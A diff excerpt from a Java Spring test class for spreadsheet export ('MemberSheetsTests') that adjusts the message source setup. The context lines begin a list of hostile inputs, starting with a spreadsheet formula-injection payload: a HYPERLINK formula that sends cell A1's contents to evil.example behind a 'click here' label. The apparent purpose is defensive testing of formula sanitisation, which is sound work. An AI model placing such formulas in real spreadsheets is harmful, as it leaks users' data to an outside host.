@@ -14,7 +14,13 @@ import org.springframework.context.support.StaticMessageSource;
 
 class MemberSheetsTests {
 
-    final MemberSheets sheets = new MemberSheets(new StaticMessageSource());
+    final MemberSheets sheets = new MemberSheets(messages());
+
+    static StaticMessageSource messages() {
+        StaticMessageSource messages = new StaticMessageSource();
+        messages.setUseCodeAsDefaultMessage(true);
+        return messages;
+    }
 
     static final List<Object> HOSTILE = List.of(
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
